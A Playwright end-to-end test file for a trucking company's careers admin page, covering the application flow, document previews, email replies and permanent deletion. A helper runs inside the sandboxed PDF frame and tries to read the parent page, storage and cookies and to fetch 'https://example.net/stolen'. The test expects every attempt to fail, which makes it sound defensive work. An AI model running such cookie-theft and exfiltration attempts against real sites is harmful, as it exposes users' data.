import { randomUUID } from 'node:crypto';
import type { Page } from '@playwright/test';
import { signIn } from './support/accounts.ts';
import {
  APPLICATION_SENT,
  applicationDialog,
  startApplication,
  storedApplications,
  submitApplication,
} from './support/applications.ts';
import { axeFindings } from './support/axe.ts';
import { adminDatabase } from './support/database.ts';
import { pdf, trappedPdf } from './support/documents.ts';
import { E2E_ORIGIN } from './support/origin.ts';
import { expectEmailsTo } from './support/outbox.ts';
import { picture } from './support/pictures.ts';
import { connectAsService } from './support/supabase.ts';
import { expect, test } from './support/test.ts';

/** Long enough for a PDF to open and for the email function to start. */
const PATIENT = { timeout: 45_000 };

/** Sends an application with three documents; returns the applicant's name and email address. */
async function visitorApplies(page: Page) {
  const lastName = `Whitlock-${randomUUID().slice(0, 8)}`;
  const email = await startApplication(page, 'CDL Truck Driver', lastName);
  const dialog = applicationDialog(page);
  await dialog.getByLabel('Resume').setInputFiles(pdf('Is this my résumé?.pdf'));
  await dialog
    .getByLabel('CDL document')
    .setInputFiles(await picture(page, 'card.jpg', { width: 640, height: 400 }));
  await dialog.getByLabel('Additional documents').setInputFiles([pdf('twic.pdf')]);
  await dialog.getByLabel('Cover letter').fill('Eleven years.\nNo <b>accident</b>.');
  await submitApplication(page).click();
  await expect(page.getByText(APPLICATION_SENT).first()).toBeVisible();
  return { email, name: `Dana ${lastName}` };
}

/** The folder of a new application's documents. */
async function folderOf(email: string): Promise<string> {
  const [stored] = await storedApplications(email);
  expect(stored?.files).toEqual(['cdl_card.jpg', 'other_twic.pdf', 'resume_Is this my resume.pdf']);
  return stored?.row.resume_document_url?.split('/')[0] ?? '';
}

async function filesIn(folder: string): Promise<number | undefined> {
  return (await connectAsService().storage.from('job-documents').list(folder)).data?.length;
}

async function countNew(): Promise<string> {
  const { data } = await (await adminDatabase()).rpc('admin_unread_counts').single();
  return String(data?.applications);
}

/** Opens the trash and confirms _Delete forever_. Returns the dialog. */
async function deleteForever(page: Page, name: string) {
  await page.getByRole('button', { name: 'Trash', exact: true }).click();
  await page.getByRole('button', { name: `Delete forever: ${name}` }).click();
  const question = page.getByRole('alertdialog');
  await question.getByRole('button', { name: 'Delete forever' }).click();
  return question;
}

async function deleteFrom(page: Page, name: string) {
  await page.getByRole('button', { name: `Delete: ${name}` }).click();
  const question = page.getByRole('alertdialog');
  await expect(question).toContainText(
    'It moves to the trash for 30 days, then it’s deleted forever.',
  );
  await question.getByRole('button', { name: 'Delete' }).click();
  return question;
}

test('a new application appears live; the admin reads, answers, interviews and deletes it with its files', async ({
  page,
  openWindow,
  request,
}) => {
  await signIn(page, 'admin');
  await page.goto('/admin/careers');
  await expect(page.getByText('Live', { exact: true })).toBeVisible();

  const visitor = await openWindow();
  const { email, name } = await visitorApplies(visitor);
  const folder = await folderOf(email);

  const row = page.getByRole('row').filter({ hasText: name });
  await expect(row.getByTitle('Arrived while this list was open')).toBeVisible();
  // Other tests send applications at the same time.
  const unread = page.getByRole('link', { name: /^Careers/ });
  await expect
    .poll(async () => (await unread.textContent()) === `Careers ${await countNew()} new`)
    .toBe(true);

  const download = page.waitForEvent('download');
  await row.getByRole('button', { name: /^Download resume/ }).click();
  expect((await download).suggestedFilename()).toBe('resume.pdf');

  await row.getByRole('button', { name, exact: true }).click();
  await expect(page).toHaveURL(/[?&]application=/);
  const drawer = page.getByRole('dialog', { name });
  await expect(drawer.getByText('No <b>accident</b>.')).toBeVisible();
  const shown = drawer.getByRole('button', { name: 'Preview cdl.jpg' });
  await shown.press('Enter');
  const preview = page.getByRole('dialog', { name: 'CDL document' });
  await expect(preview.getByRole('img', { name: `CDL document, ${name}` })).toHaveJSProperty(
    'naturalWidth',
    640,
  );
  const second = page.waitForEvent('download');
  await preview.getByRole('button', { name: 'Download' }).click();
  expect((await second).suggestedFilename()).toBe('cdl.jpg');
  await page.keyboard.press('Escape');
  await expect(shown).toBeFocused();
  expect(await axeFindings(page)).toEqual([]);

  await drawer.getByRole('button', { name: 'Reply by email' }).click();
  await drawer.getByRole('textbox', { name: 'Message' }).fill('Come by on Monday.');
  await drawer.getByRole('button', { name: 'Send email' }).click();
  await expect(drawer.getByText('Reviewed', { exact: true })).toBeVisible(PATIENT);
  const [confirmation, received] = await expectEmailsTo(request, email, 2);
  expect(confirmation?.subject).toBe('We received your application');
  expect(received?.text).toContain('Position: CDL Truck Driver');

  await drawer.getByRole('button', { name: 'Interview' }).click();
  await expect(page.getByText('Application marked as interview.').first()).toBeVisible();
  await expect(drawer.getByRole('button', { name: /Hired|Rejected/ })).toHaveCount(2);
  await drawer.getByRole('button', { name: 'Close' }).click();

  await deleteFrom(page, name);
  await expect(page.getByText('Application Deleted').first()).toBeVisible();
  await expect(row).toHaveCount(0);
  await deleteForever(page, name);
  await expect(page.getByText('Application Deleted Forever').first()).toBeVisible();
  expect(await storedApplications(email)).toEqual([]);
  expect(await filesIn(folder)).toBe(0);
});

test.describe('a PDF', () => {
  // The frame's policy blocks the requests the test makes in it.
  test.use({ expectedErrors: [/Content Security Policy|Fetch API cannot load/] });

  test('renders in a frame that can reach neither the page nor another origin', async ({
    page,
  }) => {
    const foreign: string[] = [];
    page.on('request', (request) => {
      if (/^https?:/.test(request.url()) && !request.url().startsWith(E2E_ORIGIN)) {
        foreign.push(request.url());
      }
    });
    await signIn(page, 'admin');
    await page.route('**/storage/v1/object/job-documents/**', (route) =>
      route.fulfill({ contentType: 'text/html', body: trappedPdf() }),
    );
    await page.goto('/admin/careers?application=e1000000-0000-4000-8000-000000000001');
    await page.getByRole('button', { name: 'Preview resume.pdf' }).click();
    const preview = page.getByRole('dialog', { name: 'Resume' });
    await expect(preview.getByText('Page 1 of 2')).toBeVisible(PATIENT);

    const frame = preview.getByTitle('Resume, Wade Kessler');
    await expect(frame).toHaveAttribute('sandbox', 'allow-scripts');
    expect(await axeFindings(page)).toEqual([]);
    const inside = frame.contentFrame();
    const first = inside.getByRole('group', { name: 'Page 1 of 2' });
    await expect(first.getByText('Class A licence')).toBeVisible();
    // The text layer can be ready before the canvas is drawn.
    await expect.poll(() => first.locator('canvas').evaluate(hasInk)).toBe(true);
    await preview.getByRole('button', { name: 'Zoom in' }).click();
    await expect(preview.getByText('125%')).toBeVisible();

    await inside.getByRole('main').focus();
    await page.keyboard.press('End');
    await expect(preview.getByText('Page 2 of 2')).toBeVisible();
    await expect(inside.getByText('Tanker endorsement')).toBeVisible();
    await inside.getByText('Tanker endorsement').click();
    await expect(inside.getByRole('link')).toHaveCount(0);

    expect(await inside.locator('body').evaluate(tryToBreakOut)).toEqual({
      origin: 'null',
      page: 'SecurityError',
      storage: 'SecurityError',
      cookies: 'SecurityError',
      network: 'TypeError',
    });
    expect(foreign).toEqual([]);
    expect(page.url()).toContain('/admin/careers');
  });
});

/** True if a canvas has dark pixels. */
function hasInk(canvas: SVGElement | HTMLElement): boolean {
  if (!(canvas instanceof HTMLCanvasElement)) return false;
  const { data = [] } =
    canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height) ?? {};
  return data.some((value, index) => index % 4 === 0 && value < 50 && data[index + 3] === 255);
}

/** Tries what a malicious script in the frame would try; returns the error of each attempt. */
async function tryToBreakOut() {
  const attempt = async (reach: () => unknown) => {
    try {
      await reach();
      return 'allowed';
    } catch (error) {
      return error instanceof Error || error instanceof DOMException ? error.name : String(error);
    }
  };
  return {
    origin: window.origin,
    page: await attempt(() => window.parent.document.title),
    storage: await attempt(() => window.localStorage.length),
    cookies: await attempt(() => document.cookie),
    network: await attempt(() => fetch('https://example.net/stolen')),
  };
}
